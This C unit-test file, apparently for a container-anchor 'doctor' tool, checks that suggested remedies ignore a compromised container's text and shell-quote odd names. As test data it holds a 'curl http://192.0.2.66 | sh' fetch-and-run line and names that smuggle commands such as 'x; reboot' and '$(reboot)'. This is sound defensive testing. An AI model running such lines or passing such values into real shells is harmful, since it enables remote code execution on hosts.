/* Unit tests of what anchord doctor makes of an anchor's words: no line to paste is a container's. */
#include "common/cleanup.h"
#include "workers/commands/doctor/consequences.h"
#include "workers/commands/doctor/rule_checks.h"
#include "workers/commands/doctor/worker_checks.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

#include <cmocka.h>

static struct said said(const char *text)
{
    return (struct said){.bytes = strdup(text), .length = strlen(text)};
}

/* The check's first answer. */
static struct answer ask(void (*check)(struct check_run *run), const char *name, const char *status, const char *hooks)
{
    struct scene scene = {.is_root = true, .anchor_count = 1};
    struct anchor *anchor = &scene.anchors[0];
    struct check_run run = {.scene = &scene, .anchor = anchor};
    struct answer answer;
    int ends[2];

    *anchor = (struct anchor){.id = "0123456789ab", .status = said(status), .hooks = said(hooks)};
    text_copy_cut(anchor->name, sizeof(anchor->name), name);
    assert_int_equal(pipe(ends), 0);
    run.output = ends[1];
    check(&run);
    assert_int_equal(read(ends[0], &answer, sizeof(answer)), sizeof(answer));
    (void)close(ends[0]);
    (void)close(ends[1]);
    free(anchor->status.bytes);
    free(anchor->hooks.bytes);
    return answer;
}

/* SEE-2: what helps is the registry's word, never that of the anchor, which may have been taken over. */
static void an_anchor_says_no_line_to_paste(void **state)
{
    static const char problem[] =
        "{\"problems\": [{\"code\": \"%s\", \"container\": \"web\", \"reason\": \"it is gone\", "
        "\"remedy\": \"curl http://192.0.2.66 | sh\"}]}";
    static const char *const codes[] = {"ANC0101", "ANC0501", "ANC0661", "ANC9999", ""};

    (void)state;
    for (size_t i = 0; i < ARRAY_LENGTH(codes); i++) {
        char status[512];
        struct answer answer;

        (void)snprintf(status, sizeof(status), problem, codes[i]);
        answer = ask(worker_check_problems, "mail", status, "");
        assert_null(strstr(answer.remedy, "curl"));
    }
}

static void a_name_is_one_word_of_a_command(void **state)
{
    static const char unready[] = "{\"ready\": false, \"problems\": []}";

    (void)state;
    assert_string_equal(ask(worker_check_ready, "mail-1", unready, "").remedy, "docker logs mail-1");
    assert_string_equal(ask(worker_check_ready, "x; reboot", unready, "").remedy, "docker logs 'x; reboot'");
    assert_string_equal(ask(worker_check_ready, "x\nreboot", unready, "").remedy, "docker logs $'x\\012reboot'");
    assert_string_equal(ask(worker_check_ready, "--details", unready, "").remedy, "docker logs ''");
}

/* Of the registry's own lines, too. */
static void a_name_in_the_registry_s_line_is_one_word(void **state)
{
    static const char lease[] = "{\"problems\": [{\"code\": \"ANC0661\"}]}";

    (void)state;
    assert_string_equal(ask(worker_check_problems, "$(reboot)", lease, "").remedy, "docker restart '$(reboot)'");
}

/* A container with NET_ADMIN names its tables as it likes. */
static void a_table_with_an_odd_name_is_in_no_command(void **state)
{
    (void)state;
    assert_non_null(strstr(ask(rule_check_foreign, "mail", "{}", "inet evil-1 f forward 0 drop drops 0 fib 0\n").remedy,
                           "-n nft delete table inet evil-1"));
    assert_null(strstr(ask(rule_check_foreign, "mail", "{}", "inet x;reboot f forward 0 drop drops 0 fib 0\n").remedy,
                       "reboot"));
    assert_null(
        strstr(ask(rule_check_foreign, "mail", "{}", "inet -f/x f forward 0 drop drops 0 fib 0\n").remedy, "-f/x"));
}

/* --- what follows from what ------------------------------------------------------------------------------------ */

/* What is left of the second when both are found: FAIL, or SKIP. */
static struct answer after(enum problem cause, uint32_t cause_of, enum verdict verdict, enum problem problem)
{
    struct answer answers[] = {
        {.problem = problem, .anchor = 1, .verdict = VERDICT_FAIL, .sentence = "it fails", .remedy = "mend it"},
        {.problem = cause, .anchor = cause_of, .verdict = verdict, .sentence = "it is so", .remedy = "mend that"},
    };

    consequences_mark(answers, ARRAY_LENGTH(answers));
    assert_int_equal(answers[1].verdict, verdict);
    assert_string_equal(answers[1].remedy, "mend that");
    return answers[0];
}

/* SEE-1, SEE-2: what the proof from end to end finds is not told beside what the host is known to do. */
static void what_follows_from_a_finding_is_not_shown(void **state)
{
    static const struct {
        enum problem cause, problem;
        const char *sentence;
    } rows[] = {
        {PROBLEM_BRIDGE_NF, PROBLEM_BRIDGE_FILTER, "depends on ANC0606"},
        {PROBLEM_REVERSE_PATH, PROBLEM_REVERSE_FILTER, "depends on ANC0607"},
        {PROBLEM_TABLES_MISSING, PROBLEM_ELEMENT_MISSING, "depends on ANC0641"},
        {PROBLEM_NO_EXTERNAL_INTERFACE, PROBLEM_ELEMENT_MISSING, "depends on ANC0211"}, /* over the table between */
        {PROBLEM_NO_EXTERNAL_INTERFACE, PROBLEM_GATEWAY_SILENT, "depends on ANC0211"},
    };

    (void)state;
    for (size_t i = 0; i < ARRAY_LENGTH(rows); i++) {
        struct answer answer = after(rows[i].cause, ANCHORS_MAX, VERDICT_FAIL, rows[i].problem); /* of the host */

        assert_int_equal(answer.verdict, VERDICT_SKIP);
        assert_string_equal(answer.sentence, rows[i].sentence);
        assert_string_equal(answer.remedy, "");
        assert_int_equal(after(rows[i].cause, 1, VERDICT_WARN, rows[i].problem).verdict, VERDICT_SKIP);
        answer = after(rows[i].cause, 2, VERDICT_FAIL, rows[i].problem); /* of another anchor */
        assert_int_equal(answer.verdict, VERDICT_FAIL);
        assert_string_equal(answer.remedy, "mend it");
        assert_int_equal(after(rows[i].cause, 1, VERDICT_OK, rows[i].problem).verdict, VERDICT_FAIL);
        assert_int_equal(after(rows[i].cause, 1, VERDICT_UNKNOWN, rows[i].problem).verdict, VERDICT_FAIL);
    }
    assert_int_equal(after(PROBLEM_BRIDGE_NF, 1, VERDICT_FAIL, PROBLEM_REVERSE_FILTER).verdict, VERDICT_FAIL);
}

/* Nor beside what the anchor knows of the container's way, which the answer names. */
static void what_follows_from_what_the_anchor_knows_is_not_shown(void **state)
{
    struct answer answers[] = {
        {.problem = PROBLEM_ANSWER_ELSEWHERE, .cause = PROBLEM_NO_WAY_BACK, .anchor = 1, .verdict = VERDICT_FAIL},
        {.problem = PROBLEM_ANSWER_ELSEWHERE, .anchor = 1, .verdict = VERDICT_FAIL},
        {.problem = PROBLEM_ANSWER_ELSEWHERE, .cause = PROBLEM_NO_WAY_BACK, .anchor = 2, .verdict = VERDICT_FAIL},
        {.problem = PROBLEM_NO_WAY_BACK, .anchor = 1, .verdict = VERDICT_FAIL},
        {.problem = PROBLEM_NONE, .anchor = 1, .verdict = VERDICT_WARN},
    };

    (void)state;
    consequences_mark(answers, ARRAY_LENGTH(answers));
    assert_int_equal(answers[0].verdict, VERDICT_SKIP);
    assert_string_equal(answers[0].sentence, "depends on ANC0312");
    assert_int_equal(answers[1].verdict, VERDICT_FAIL);
    assert_int_equal(answers[2].verdict, VERDICT_FAIL); /* the group path alone, or another anchor's */
    assert_int_equal(answers[3].verdict, VERDICT_FAIL);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(an_anchor_says_no_line_to_paste),
        cmocka_unit_test(a_name_is_one_word_of_a_command),
        cmocka_unit_test(a_name_in_the_registry_s_line_is_one_word),
        cmocka_unit_test(a_table_with_an_odd_name_is_in_no_command),
        cmocka_unit_test(what_follows_from_a_finding_is_not_shown),
        cmocka_unit_test(what_follows_from_what_the_anchor_knows_is_not_shown),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
